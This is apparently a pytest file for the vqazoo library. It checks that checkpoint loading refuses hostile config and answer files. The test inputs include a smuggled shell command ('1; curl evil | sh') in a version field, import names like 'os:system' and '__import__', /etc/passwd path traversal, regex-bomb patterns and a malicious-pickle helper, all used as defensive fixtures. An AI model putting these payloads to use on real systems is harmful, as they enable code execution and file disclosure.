"""A hostile config.json or answers.json: absurd sizes, odd JSON, names that want to be code."""

from __future__ import annotations

import json
import resource
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import vqazoo
from tests.plugins.encoders.image_models import save_image_model
from tests.plugins.encoders.tiny import hf_clip, open_clip_configs
from tests.support.hostile import (  # noqa: F401
    copied_folder,
    evil_pickle,
    little_memory_and_time,
    refused,
    reseal,
)
from tests.support.toy import toy  # noqa: F401
from vqazoo.checkpoint.loading import load_checkpoint
from vqazoo.checkpoint.saving import save_checkpoint
from vqazoo.errors import CheckpointError, UnknownNameError, WeightsError
from vqazoo.files.reading import DEEPEST, LONGEST_TEXT, MOST_ITEMS, check_extent, parse_json

Change = Callable[[dict[str, Any]], Any]


def grown(before: int) -> int:
    """Bytes by which this process became larger."""
    return (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024


# ---- JSON that is none, or far too much -----------------------------------------------------

ODD = {
    "deep lists": b"[" * 100_000,
    "deep tables": b'{"a":' * 100_000,
    "no number": b'{"format_version": NaN}',
    "infinity": b'{"format_version": -Infinity}',
    "a float that overflows": b'{"format_version": 1e400}',
    "ten thousand digits": b'{"format_version": %b}' % (b"9" * 10_000),
    "more than 64 bits": b'{"format_version": 9223372036854775808}',
    "one key twice": b'{"format_version": 1, "format_version": 1}',
    "one key twice, deeper": b'{"sha256": {"a": "1", "a": "2"}}',
    "half a character": b'{"format_version": "\\ud800"}',
    "no UTF-8": b'{"format_version": "\xff"}',
    "another text after it": b'{"format_version": 1} {}',
    "a byte order mark": b"\xef\xbb\xbf{}",
    "nothing but blanks": b" " * 1_000_000,
}


@pytest.mark.parametrize("odd", ODD)
def test_a_config_of_odd_json_is_refused(folder, odd):
    (folder / "config.json").write_bytes(ODD[odd])
    refused(folder, "is not a vqazoo config", CheckpointError)


@pytest.mark.parametrize("odd", ODD)
def test_answers_of_odd_json_are_refused(folder, odd):
    (folder / "answers.json").write_bytes(ODD[odd])
    reseal(folder)
    refused(folder, "not an answer list", CheckpointError)


@pytest.mark.parametrize("text", ["9223372036854775808", "-9223372036854775809", "1" * 5000])
def test_a_whole_number_beyond_64_bits_is_too_large(text):
    with pytest.raises(ValueError, match="too large"):
        parse_json(text.encode())


def test_a_config_is_neither_long_nor_deep():
    check_extent({"a": [1] * MOST_ITEMS, "b": "x" * LONGEST_TEXT}, "config.json")
    deep: Any = []
    for _ in range(DEEPEST + 1):
        deep = [deep]
    for value, told in (
        ({"a": [1] * (MOST_ITEMS + 1)}, "1,001 items"),
        (["x" * (LONGEST_TEXT + 1)], "4,097 char"),
        (deep, "more than 16 deep"),
        ({"a": [{"\x1b": 1}]}, "unprintable key"),
    ):
        with pytest.raises(ValueError, match=told):
            check_extent(value, "config.json")


@pytest.mark.parametrize("value", ["é", "𝄞", "\n", -(1 << 63), 1.5e300, [], {"": None}])
def test_what_json_dumps_writes_is_read(value):
    assert parse_json(json.dumps({"a": [value]}).encode()) == {"a": [value]}


@pytest.mark.parametrize("content", [b"[[],", b"[{},", b'["a",', b"[0,"])
def test_many_small_values_take_bounded_memory(folder, content):
    """4 MB of JSON may become 90 MB of objects, but not gigabytes."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    inner = content[1:] * ((4 << 20) // len(content[1:]) - 10)
    (folder / "config.json").write_bytes(b"[" + inner[:-1] + b"]")
    refused(folder, "is not a vqazoo config", CheckpointError)
    assert grown(before) < 300 << 20


def answers(folder: Path, **changed: Any) -> None:
    saved = json.loads((folder / "answers.json").read_text())
    (folder / "answers.json").write_text(json.dumps({**saved, **changed}))
    reseal(folder)


@pytest.mark.parametrize(
    ("changed", "told"),
    [
        ({"answers": ["x" * 10_001], "counts": [1]}, r"knows the answer 'xxx.*at most 10,000 char"),
        ({"answers": [1, 2, 3, 4, 5]}, "not an answer list"),
        ({"answers": []}, "not an answer list"),
        ({"answers": {"a": 1}}, "not an answer list"),
        ({"counts": ["1"] * 5}, "not an answer list"),
        ({"coverage": [1]}, "not an answer list"),
        ({"normaliser": "os.system"}, "not an answer list"),
        ({"answers": ["a"] * 5}, "not an answer list"),
    ],
)
def test_answers_of_another_kind_are_refused(folder, changed, told):
    answers(folder, **changed)
    refused(folder, told, CheckpointError)


def test_many_answers_need_a_head_that_knows_them(folder):
    """200,000 answers are within the size limit, but the weights are for five."""
    many = [f"answer {number}" for number in range(200_000)]
    answers(folder, answers=many, counts=[1] * len(many))
    refused(folder, "do not fit the model|a larger fusion or head", CheckpointError)


def test_a_model_that_could_not_be_loaded_is_not_saved(tmp_path, toy):  # noqa: F811
    model = vqazoo.create(encoder=toy, head="mlp", answers=["x" * 10_001])
    with pytest.raises(CheckpointError, match="knows the answer"):
        save_checkpoint(model, tmp_path / "model")
    assert list(tmp_path.iterdir()) == []


# ---- values of another type, or absurd ------------------------------------------------------

WRONG: dict[str, tuple[Change, str]] = {
    "a version that is a truth": (lambda c: c.update(format_version=True), "version True"),
    "version zero": (lambda c: c.update(format_version=0), "version 0, but a number from 1"),
    "a version below zero": (lambda c: c.update(format_version=-1), "version -1"),
    "a version in words": (lambda c: c.update(format_version="1"), "version '1'"),
    "a version with a fraction": (lambda c: c.update(format_version=1.0), "version 1.0"),
    "a release that gives orders": (
        lambda c: c.update(format_version=3, vqazoo_version="1; curl evil | sh"),
        r"install vqazoo '1; curl evil \| sh' or newer",
    ),
    "a release with an escape": (
        lambda c: c.update(format_version=3, vqazoo_version="\x1b[2J" * 50),
        r"\\x1b",
    ),
    "towers as a list": (lambda c: c.update(towers=[1]), "'towers' is"),
    "towers as text": (lambda c: c["towers"].update(both="x"), "unknown way"),
    "no tower": (lambda c: c.update(towers={}), "unknown way"),
    "a fingerprint as a list": (
        lambda c: c["towers"]["both"].update(fingerprint=[]),
        "other tensor names",
    ),
    "a reference as a number": (lambda c: c["towers"]["both"].update(reference=5), "unknown way"),
    "a reference as a table": (lambda c: c["towers"]["both"].update(reference={}), "unknown way"),
    "trainable null": (lambda c: c.update(trainable=[None]), "'trainable' holds None"),
    "trainable numbers": (lambda c: c.update(trainable=[10**9]), "'trainable' holds 1000000000"),
    "trainable lists": (lambda c: c.update(trainable=[["*"]]), "'trainable' holds"),
    "a trainable expression": (lambda c: c.update(trainable=["(a+)+" * 100]), "No encoder param"),
    "a long expression": (lambda c: c.update(trainable=["(a+)+" * 800]), "'trainable' holds"),
    "a trainable of a megabyte": (lambda c: c.update(trainable=["a" * 1_000_000]), "1,000,000 ch"),
    "many trainables": (lambda c: c.update(trainable=["*"] * 500_000), "500,000 items"),
    "deep towers": (lambda c: c.update(towers=json.loads('{"a":' * 50 + "1" + "}" * 50)), "deep"),
    "a key with an escape": (lambda c: c["head"].update({"\x1b[2J": 1}), "unprintable key"),
    "pixels beyond reason": (
        lambda c: c["preprocess"].update(size=[10**9, 10**9]),
        r"pictures of \[1000000000, 1000000000\] pixels.*from 1 to 4,096",
    ),
    "pixels resized beyond reason": (lambda c: c["preprocess"].update(resize=10**9), "1000000000"),
    "no pixels": (lambda c: c["preprocess"].update(size=[0, 0]), r"\[0, 0\]"),
    "pixels below zero": (lambda c: c["preprocess"].update(size=[-8, 8]), r"\[-8, 8\]"),
    "pixels in words": (lambda c: c["preprocess"].update(size="8"), "pictures of '8'"),
    "no size": (lambda c: c["preprocess"].pop("size"), "pictures of None"),
    "other pixels": (lambda c: c["preprocess"].update(size=[4096, 4096]), "prepares pixels as"),
    "another mean": (lambda c: c["preprocess"].update(mean="x" * 4000), "prepares pixels as"),
    "a digest as a number": (lambda c: c["sha256"].update({"answers.json": 5}), "SHA-256 of .* 5"),
    "a digest of another length": (lambda c: c["sha256"].update(x="0"), "64 hexadecimal"),
    "no digests": (lambda c: c.update(sha256={}), "altered or cut off"),
    "unknown keys of a part": (lambda c: c["head"].update(run="rm"), "Unknown key 'run'"),
    "an import beside a part": (lambda c: c["head"].update(build="os:system"), "Unknown key"),
    "args as a list": (lambda c: c["head"].update(args=[]), "'head.args' is"),
    "a part as a list": (lambda c: c.update(head=["linear"]), "'head' is"),
    "a type as a number": (lambda c: c["head"].update(type=5), "'head.type' is 5"),
    "no type": (lambda c: c["head"].pop("type"), "has no 'head.type'"),
    "an unknown argument": (lambda c: c["head"]["args"].update(exec="1"), "no argument 'exec'"),
    "a table as an argument": (lambda c: c["head"]["args"].update(dropout={}), "'dropout' is"),
    "a text as a number": (lambda c: c["head"]["args"].update(hidden_dim="12"), "is '12', but int"),
    "a part of another version": (lambda c: c["head"].update(version=10**18), "version 10000000"),
    "a version that is true": (lambda c: c["head"].update(version=True), "'head.version' is True"),
    "a version as a list": (lambda c: c["head"].update(version=[1]), "'head.version' is"),
    "long arguments": (lambda c: c["head"]["args"].update(a=["x" * 4000] * 999), "takes more than"),
}


@pytest.mark.parametrize("case", WRONG)
def test_a_wrong_value_is_told(folder, case):
    change, told = WRONG[case]
    reseal(folder, change)
    refused(folder, told)


# ---- sizes that no file justifies -----------------------------------------------------------


def parts(head: str, fusion: str, **args: Any) -> Change:
    """Other parts, with arguments of either."""

    def change(config: dict[str, Any]) -> None:
        for kind, name in (("head", head), ("fusion", fusion)):
            kept = {k.partition("_")[2]: v for k, v in args.items() if k.startswith(kind)}
            config[kind] = {"type": name, "args": kept}

    return change


GIANTS = {
    "a head of 10**12": parts("linear", "concat", head_hidden_dim=10**12),
    "a head of 10**9": parts("mlp", "hadamard", head_hidden_dim=10**9, fusion_dim=10),
    "a head beyond 64 bits": parts("mlp", "hadamard", head_hidden_dim=(1 << 63) - 1),
    "an lstm of 10**6": parts("lstm", "concat", head_hidden_dim=10**6),
    "a gru of 10**5": parts("gru", "gated", head_hidden_dim=10**5, head_min_count=1),
    "a fusion of 10**9": parts("linear", "concat", fusion_dim=10**9),
    "a product of two": parts("mlp", "sum", head_hidden_dim=50_000, fusion_dim=50_000),
    "a rank of 10**8": parts("linear", "bilinear", fusion_rank=10**8),
    "attention of 10**7": parts("linear", "cross-attention", fusion_dim=10**7, fusion_heads=1),
    "a million layers": parts(
        "linear", "cross-attention", fusion_dim=2, fusion_heads=1, fusion_layers=10**6
    ),
    "a billion steps": parts("linear", "stacked-attention", fusion_dim=1, fusion_steps=10**9),
    "a billion glimpses": parts("linear", "stacked-attention", fusion_glimpses=10**9),
}


@pytest.mark.parametrize("case", GIANTS)
def test_a_giant_that_is_not_in_the_file_is_never_built(folder, case):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    reseal(folder, GIANTS[case])
    refused(
        folder,
        r"a larger fusion or head than model.safetensors holds tensors for \(\w+\.args\.\w+ is "
        r"|cannot be built .*overflow",
        CheckpointError,
    )
    assert grown(before) < 256 << 20


@pytest.mark.parametrize("width", [10**6, 10**12])
def test_a_stored_encoder_is_as_large_as_its_file(folder, width):
    def change(config: dict[str, Any]) -> None:
        for tower in ("image_encoder", "text_encoder"):
            config[tower]["args"] = {"width": width, "vocabulary": 258}

    reseal(folder, change)
    refused(folder, f"larger encoders than .*encoder.args.width is {width:,}", CheckpointError)


def test_a_referenced_encoder_is_no_larger_than_the_memory(folder):
    def change(config: dict[str, Any]) -> None:
        config["towers"]["both"]["reference"] = {"source": "evil/repo", "sha256": "0" * 64}
        for tower in ("image_encoder", "text_encoder"):
            config[tower]["args"] = {"width": 10**9, "vocabulary": 10**6}

    reseal(folder, change)
    refused(folder, "larger encoders than this machine has memory for", CheckpointError)


@pytest.mark.parametrize("side", [10**6, 10**6 + 16])
def test_an_encoder_may_not_ask_for_giant_pictures(tmp_path, side):
    """Whatever the encoder accepts, and even if the preprocessing agrees."""
    encoder = {"type": "tiny-clip", "args": {"weights": "random"}}
    model = vqazoo.create(encoder=encoder, head="mlp", answers=["a", "b"])
    save_checkpoint(model, tmp_path / "model")

    def change(config: dict[str, Any]) -> None:
        config["preprocess"]["size"] = [side, side]
        for tower in ("image_encoder", "text_encoder"):
            config[tower]["args"]["image_size"] = side

    reseal(tmp_path / "model", change)
    refused(tmp_path / "model", "from 1 to 4,096 were expected", CheckpointError)


# ---- names that want to be code or files ----------------------------------------------------

BLOCKS = ["image_encoder", "text_encoder", "fusion", "head"]
CODE = [
    "os:system",
    "../evil",
    "builtins.eval",
    "torch.hub:load",
    "/etc/passwd",
    "evil.py",
    "__import__('os')",
    "vqazoo_heads.linear:LinearHead",
    "pip/evil",
    "",
    "x;evil",
]


@pytest.mark.parametrize("block", BLOCKS)
@pytest.mark.parametrize("name", CODE)
def test_a_part_can_not_be_named_by_an_import_or_a_file(folder, block, name):
    loaded = set(sys.modules)
    reseal(folder, lambda config: config[block].update(type=name))
    refused(folder, "Unknown (encoder|fusion|head) ", UnknownNameError)
    assert not {"evil", "torch.hub"} & (set(sys.modules) - loaded)


def test_an_unknown_plugin_is_told_with_what_to_do(folder):
    reseal(folder, lambda config: config["head"].update(type="acme-memory"))
    refused(folder, "Unknown head 'acme-memory'.*Run 'vqazoo list heads'", UnknownNameError)


@pytest.mark.parametrize("block", ["fusion", "head"])
def test_only_encoders_take_a_variant(folder, block):
    def change(config: dict[str, Any]) -> None:
        config[block]["type"] += ":os.system"

    reseal(folder, change)
    refused(folder, "only encoders take a variant", CheckpointError)


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("timm:resnet18@/dev/zero", "'/dev/zero', but a Hub repository"),
        ("timm:resnet18@/dev/stdin", "/dev/stdin"),
        ("timm:resnet18@/etc/passwd", "'/etc/passwd'"),
        ("timm:resnet18@../../../../../../../../etc/passwd", "etc/passwd"),
        ("open-clip:ViT-B-32@/etc/passwd", "'/etc/passwd'"),
        ("open-clip:local-dir:/etc/passwd", "'/etc/passwd'"),
        ("hf-clip:/etc/passwd", "'/etc/passwd'"),
        ("hf-image:/etc/passwd", "'/etc/passwd'"),
        ("hf-image:a\0b", "printable"),
        ("hf-image:" + "x/" * 1000, "at most 1,000"),
        ("hf-clip:~nobody-of-that-name/x", "~nobody-of-that-name"),
        ("hf-clip:" + "x" * 300, "xxx"),
        ("hf-clip:a\0b", "printable"),
        ("hf-clip:\x1b[2J", "printable"),
        ("hf-clip:" + "x/" * 1000, "at most 1,000"),
        ("toy:variant", "takes no variant"),
    ],
)
def test_a_variant_leads_to_no_device_and_no_other_file(folder, name, told):
    reseal(folder, lambda config: config["image_encoder"].update(type=name))
    refused(folder, told)


def test_a_folder_that_holds_no_model_is_told(folder):
    reseal(folder, lambda config: config["text_encoder"].update(type="hf-clip:/etc", args={}))
    refused(folder, "'/etc' has no config.json", WeightsError)


@pytest.mark.parametrize("kind", ["hf-clip", "hf-image", "open-clip", "timm"])
def test_encoders_in_local_folders_read_safetensors_only(tmp_path, toy, kind):  # noqa: F811
    """The weights are replaced by a pickle that would make a file; everything else stays true."""
    made, place = tmp_path / "made by the pickle", tmp_path / "encoder"
    weights = place / "model.safetensors"
    if kind == "hf-clip":
        hf_clip(place, "clip")
        name, pickled = f"hf-clip:{place}", place / "pytorch_model.bin"
    elif kind == "hf-image":
        save_image_model(place, "vit")
        name, pickled = f"hf-image:{place}", place / "pytorch_model.bin"
    elif kind == "open-clip":
        place.mkdir()
        weights, pickled = place / "open_clip_model.safetensors", place / "open_clip_model.bin"
        config = {"model_cfg": open_clip_configs(tmp_path)["tiny-vit"], "preprocess_cfg": {}}
        (place / "open_clip_config.json").write_text(json.dumps(config))
        name = f"open-clip:local-dir:{place}"
    else:
        place.mkdir()
        name, pickled = f"timm:test_vit@{weights}", weights
    write_weights(name, weights)
    model = vqazoo.create(image_encoder=name, text_encoder=toy, head="mlp", answers=["a", "b"])
    save_checkpoint(model, tmp_path / "model")
    load_checkpoint(tmp_path / "model")
    weights.unlink()
    pickled.write_bytes(evil_pickle(made))
    refused(tmp_path / "model", "safetensors|no weights file", WeightsError)
    assert not made.exists()


def write_weights(name: str, weights: Path) -> None:
    """Random weights for an encoder that is to be read from them, unless they are there."""
    from safetensors.torch import save_file

    from vqazoo.registry import registry

    if weights.exists():
        return
    variant = name.partition(":")[2]
    both = frozenset({"image"}) if name.startswith("timm") else frozenset({"image", "text"})
    encoder = registry.build("encoder", name, variant, both)
    tensors = {k.removeprefix("model."): v.contiguous() for k, v in encoder.state_dict().items()}
    if "transformer.resblocks.0.ln_1.weight" in tensors:  # open_clip's own, dropped by the encoder
        import torch

        tensors["logit_scale"] = torch.zeros(())
    save_file(tensors, weights)
